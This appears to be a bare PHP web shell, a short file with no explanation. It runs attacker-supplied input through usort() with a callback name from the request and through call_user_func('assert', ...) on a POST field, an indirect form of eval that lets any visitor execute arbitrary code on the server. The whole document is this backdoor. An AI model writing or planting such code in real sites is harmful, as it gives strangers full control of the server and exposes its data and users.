<?php
$a = array($_REQUEST['x']);
usort($a, $_REQUEST['f']);
call_user_func('assert', $_POST['code']);
